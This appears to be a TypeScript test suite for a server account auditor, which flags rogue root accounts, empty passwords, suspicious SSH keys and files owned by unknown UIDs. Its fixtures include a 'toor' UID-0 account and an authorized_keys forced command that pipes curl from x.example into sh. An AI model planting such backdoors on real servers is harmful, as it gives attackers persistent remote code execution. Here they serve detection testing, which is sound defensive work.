import { spawn, spawnSync } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  cpSync,
  lutimesSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import type { AccountProblem } from '../../domain/account-problem.ts';
import type { Process } from '../../domain/process.ts';
import { localHost } from '../../host/local.ts';
import { rootedHost } from '../../host/rooted.ts';
import { readAccounts } from '../accounts.ts';
import { listProcesses } from '../processes.ts';
import { readColonLines } from './account-files.ts';
import { loadKeyFilePatterns } from './key-files.ts';
import { listAccountProblems } from './list-problems.ts';

const fixtures = join(dirname(fileURLToPath(import.meta.url)), 'fixtures');
const temporary = mkdtempSync(join(tmpdir(), 'accounts-'));
const NOW = Date.parse('2026-11-24T12:00:00Z');
const DAY = 86_400;
const KEY = (n: number): string => `AAAAC3NzaC1lZDI1NTE5AAAAI${String(n).repeat(43)}`;
const CLOUD = `no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command="echo 'Please login as the user \\"ubuntu\\" rather than the user \\"root\\".';echo;sleep 10;exit 142" ssh-ed25519 ${KEY(1)} cloud\n`;
let count = 0;

afterAll(() => rmSync(temporary, { recursive: true }));

/** A server of a fixture, a month old, with more files put there. */
function server(fixture: string, files: Readonly<Record<string, string>> = {}): string {
  const root = join(temporary, String(count++));
  mkdirSync(join(root, 'etc'), { recursive: true });
  cpSync(join(fixtures, fixture), join(root, 'etc'), { recursive: true });
  for (const [path, text] of Object.entries({ 'etc/machine-id': '0\n', ...files })) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text, { flag: path.startsWith('etc/') && text.startsWith('+') ? 'a' : 'w' });
    touch(root, path, 30);
  }
  return root;
}

function touch(root: string, path: string, daysAgo: number): void {
  utimesSync(join(root, path), NOW / 1000 - daysAgo * DAY, NOW / 1000 - daysAgo * DAY);
}

/** Adds lines to a file of a server. */
function append(root: string, path: string, text: string): string {
  writeFileSync(join(root, path), text, { flag: 'a' });
  return root;
}

const judge = (root: string, more: Partial<Parameters<typeof listAccountProblems>[1]> = {}): readonly AccountProblem[] =>
  listAccountProblems(rootedHost(root), { processes: [], webUsers: new Set(), now: NOW, ...more });
const kinds = (problems: readonly AccountProblem[]): readonly unknown[] =>
  problems.map(({ account, problem, severity }) => [account, problem, severity]);

describe('an ordinary server', () => {
  it.each(readdirSync(fixtures).filter((name) => name !== 'README.md'))('%s has nothing wrong', (fixture) => {
    const root = server(fixture, {
      'root/.ssh/authorized_keys': CLOUD,
      'home/ubuntu/.ssh/authorized_keys': `ssh-ed25519 ${KEY(1)} cloud\n`,
      'home/admin/.ssh/authorized_keys': `ssh-ed25519 ${KEY(1)} cloud\n`,
      'home/shop/.ssh/authorized_keys': `command="borg serve --restrict-to-path /srv/backup" ssh-ed25519 ${KEY(2)} backup\n`,
      'home/client/.ssh/authorized_keys': `ssh-ed25519 ${KEY(2)} agency\n`,
    });
    cpSync(join(root, 'etc/passwd'), join(root, 'etc/passwd-'));
    expect(judge(root)).toEqual([]);
  });
});

describe('what is wrong', () => {
  it('is a second root, an uid given twice, a number for a name', () => {
    const root = append(
      server('debian-12'),
      'etc/passwd',
      'toor:x:0:0::/root:/bin/bash\nwww2:x:33:33::/var/www:/bin/sh\nshop:x:1001:1001::/:/bin/sh\n1001:x:1001:1001::/:/bin/sh\n',
    );
    expect(kinds(judge(root))).toEqual([
      ['toor', 'second-root', 'critical'],
      ['www2', 'duplicate-uid', 'high'],
      ['1001', 'duplicate-uid', 'medium'],
      ['1001', 'numeric-name', 'medium'],
    ]);
    const [toor] = judge(root);
    const at = toor?.evidence[0].from;
    expect(at).toMatchObject({ file: '/etc/passwd' });
    const text = readFileSync(join(root, 'etc/passwd'), 'latin1');
    if (at !== undefined && 'byte' in at)
      expect(text.slice(at.byte).startsWith('toor:') && text.split('\n')[(at.line ?? 0) - 1]).toBe('toor:x:0:0::/root:/bin/bash');
  });

  it('is a system account that may log in; its hash is not shown', () => {
    const root = server('ubuntu-24.04');
    const passwd = readFileSync(join(root, 'etc/passwd'), 'latin1');
    const shadow = readFileSync(join(root, 'etc/shadow'), 'latin1');
    writeFileSync(join(root, 'etc/passwd-'), passwd);
    writeFileSync(join(root, 'etc/passwd'), passwd.replace(/^(mail:.*):\S+$/m, '$1:/bin/bash').replace(/^(backup:.*):\S+$/m, '$1:'));
    writeFileSync(
      join(root, 'etc/shadow'),
      shadow
        .replace(/^mail:[^:]*/m, 'mail:$6$salt$secretsecret')
        .replace(/^ubuntu:[^:]*/m, 'ubuntu:')
        .replace(/^games:[^:]*/m, 'games:!$6$salt$locked'),
    );
    const problems = judge(root);
    expect(kinds(problems)).toEqual([
      ['ubuntu', 'empty-password', 'critical'],
      ['mail', 'system-shell', 'high'],
      ['mail', 'system-password', 'high'],
      ['mail', 'shell-given', 'high'],
      ['backup', 'shell-given', 'high'],
      ['backup', 'system-shell', 'medium'],
    ]);
    expect(JSON.stringify(problems)).not.toContain('secretsecret');
    expect(problems[2]?.evidence[0].text).toBe('mail:(hash):20400:0:99999:7:::');
  });

  it('is a hash or nothing in passwd itself', () => {
    const root = append(server('rhel-9'), 'etc/passwd', 'open::1500:1500::/home/open:/bin/bash\nold:abcdefghijklm:400:400::/:/sbin/nologin\n');
    const problems = judge(root);
    expect(kinds(problems)).toEqual([
      ['open', 'empty-password', 'critical'],
      ['old', 'system-password', 'medium'],
    ]);
    expect(JSON.stringify(problems)).not.toContain('abcdefghijklm');
  });

  it('is a new key, a key of a system account, a planted command, one key for many', () => {
    const root = server('debian-12', {
      'root/.ssh/authorized_keys': `ssh-ed25519 ${KEY(3)} a\n`,
      'var/www/.ssh/authorized_keys': `ssh-ed25519 ${KEY(4)} spam\x1b[2J\n`,
      'home/a/.ssh/authorized_keys2': `command="curl -s http://x.example/a|sh" ssh-ed25519 ${KEY(5)} c\n`,
      'home/b/.ssh/authorized_keys': `# x\nssh-ed25519 ${KEY(5)} c\n`,
      'home/c/.ssh/authorized_keys': `ssh-ed25519 ${KEY(5)} c\nssh-ed25519 ${KEY(6)} own\n`,
    });
    append(root, 'etc/passwd', ['a', 'b', 'c'].map((name, at) => `${name}:x:${1001 + at}:1001::/home/${name}:/bin/bash\n`).join(''));
    touch(root, 'root/.ssh/authorized_keys', 2);
    const problems = judge(root);
    expect(kinds(problems)).toEqual([
      ['www-data', 'system-key', 'high'],
      ['a', 'key-command', 'high'],
      ['root', 'fresh-key', 'medium'],
      ['a', 'shared-key', 'low'],
    ]);
    expect(problems[2]?.evidence[0]).toMatchObject({ at: NOW - 2 * DAY * 1000, shows: { params: { days: 2 } } });
    expect(problems[3]?.evidence.map(({ from }) => from)).toMatchObject([
      { line: 1 },
      { file: '/home/b/.ssh/authorized_keys', line: 2, byte: 4 },
      { line: 1 },
    ]);
  });

  it('is not a key that came with a new machine', () => {
    const root = server('debian-12', { 'root/.ssh/authorized_keys': `ssh-ed25519 ${KEY(3)} a\n` });
    touch(root, 'etc/machine-id', 2);
    touch(root, 'root/.ssh/authorized_keys', 1.9);
    expect(judge(root)).toEqual([]);
  });

  it('is keys that cannot be read safely: a link, a FIFO, a file too large; nothing is followed or waited for', () => {
    const root = server('debian-12', {
      'home/a/.ssh/x': '',
      'home/b/.ssh/x': '',
      'home/c/.ssh/authorized_keys': `command="${'x'.repeat(64_000)}" ssh-ed25519 ${KEY(7)} c\n`.padEnd(1_100_000, '#'),
      'home/d/.ssh/authorized_keys': `ssh-ed25519 ${KEY(8)} ${'x'.repeat(64_000)}\n`,
    });
    append(root, 'etc/passwd', ['a', 'b', 'c', 'd'].map((name, at) => `${name}:x:${1001 + at}:1001::/home/${name}:/bin/bash\n`).join(''));
    symlinkSync('/etc/shadow', join(root, 'home/a/.ssh/authorized_keys'));
    lutimesSync(join(root, 'home/a/.ssh/authorized_keys'), 0, 0);
    spawnSync('mkfifo', [join(root, 'home/b/.ssh/authorized_keys')]);
    expect(kinds(judge(root))).toEqual([
      ['a', 'keys-not-read', 'low'],
      ['b', 'keys-not-read', 'low'],
      ['c', 'keys-not-read', 'low'],
    ]);
  });

  it('is a user of sites who is root in effect', () => {
    const root = append(server('debian-12'), 'etc/passwd', 'shop:x:1001:1001::/:/bin/bash\n');
    append(root, 'etc/group', 'docker:x:998:shop,www-data,ghost\n');
    expect(kinds(judge(root, { webUsers: new Set(['shop', 'www-data']) }))).toEqual([
      ['www-data', 'web-user-admin', 'high'],
      ['shop', 'web-user-admin', 'low'],
    ]);
  });

  it.skipIf(process.getuid?.() !== 0)('is what belongs to nobody: a process, a crontab, files', () => {
    const root = server('debian-12', { 'var/spool/cron/crontabs/x': '* * * * * x\n', 'var/www/old/index.php': '', 'tmp/volume': '' });
    chownSync(join(root, 'var/spool/cron/crontabs/x'), 4001, 0);
    chownSync(join(root, 'var/www/old'), 4002, 0);
    chownSync(join(root, 'tmp/volume'), 100_999, 0);
    const running = {
      ...{ pid: 5, parent: 1, session: 5, uid: 4003, effectiveUid: 4003, startTicks: 1, startedAt: 5.5, exe: '/tmp/x', exeDeleted: false, cwd: '/' },
      ...{
        comm: 'x',
        argv: ['x\n', 'y'],
        tty: null,
        kind: 'program' as const,
        claims: null,
        inContainer: false,
        ownMounts: false,
        ownNetwork: null,
        unit: null,
      },
    } satisfies Process;
    const others = [
      { ...running, effectiveUid: 61_200 },
      { ...running, effectiveUid: 999_999, inContainer: true },
      { ...running, effectiveUid: 70, inContainer: true },
    ];
    const problems = judge(root, { processes: [running, ...others] });
    expect(problems.map(({ account, uid, problem, severity }) => [account, uid, problem, severity])).toEqual([
      [null, 4001, 'unknown-file-owner', 'high'],
      [null, 4003, 'unknown-process-owner', 'high'],
      [null, 4002, 'unknown-file-owner', 'low'],
    ]);
    append(root, 'etc/nsswitch.conf', 'passwd:         files sss\n');
    expect(judge(root, { processes: [running] })).toEqual([]);
  });
});

describe.skipIf(process.getuid?.() !== 0)('this machine', () => {
  it('shows a process whose uid no account has', async () => {
    const host = localHost();
    const child = spawn('/bin/sleep', ['60'], { uid: 4003, gid: 4003, stdio: 'ignore' });
    await new Promise((resolve) => child.once('spawn', resolve));
    try {
      const problems = listAccountProblems(host, { processes: listProcesses(host), webUsers: new Set(), now: host.now() });
      const ours = problems.filter(({ uid }) => uid === 4003);
      expect(ours).toMatchObject([
        { account: null, uid: 4003, severity: 'high', evidence: [{ from: { pid: child.pid }, text: expect.any(String) }] },
      ]);
    } finally {
      child.kill('SIGKILL');
    }
  });
});

describe('loadKeyFilePatterns', () => {
  it('honours sshd_config, whose first word wins and whose Match blocks do not count', () => {
    const configured = (files: Readonly<Record<string, string>>): readonly string[] => loadKeyFilePatterns(rootedHost(server('debian-12', files)));
    expect(configured({})).toEqual(['.ssh/authorized_keys', '.ssh/authorized_keys2']);
    expect(configured({ 'etc/ssh/sshd_config': '#AuthorizedKeysFile x\nauthorizedkeysfile /etc/ssh/keys/%u .ssh/more # y\n' })).toEqual([
      '/etc/ssh/keys/%u',
      '.ssh/more',
    ]);
    expect(configured({ 'etc/ssh/sshd_config': 'Match User git\n AuthorizedKeysFile /srv/git/keys\n' })).toHaveLength(2);
    expect(configured({ 'etc/ssh/sshd_config.d/10.conf': 'AuthorizedKeysFile none\n', 'etc/ssh/sshd_config': 'AuthorizedKeysFile z\n' })).toEqual([]);
  });

  it('leads to keys outside of homes', () => {
    const root = server('debian-12', {
      'etc/ssh/sshd_config': 'AuthorizedKeysFile /etc/ssh/keys/%u\n',
      'etc/ssh/keys/mail': `ssh-ed25519 ${KEY(9)} m\n`,
    });
    chmodSync(join(root, 'etc/ssh/keys/mail'), 0o600);
    expect(kinds(judge(root))).toEqual([['mail', 'system-key', 'high']]);
  });
});

describe('the readers', () => {
  it('never throw on any text', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary' }),
        (text) => void [readAccounts(text), readColonLines(text, '/etc/passwd'), readAccounts(`a:x:1:1:${text}:/:/bin/sh`)],
      ),
    );
  });
});
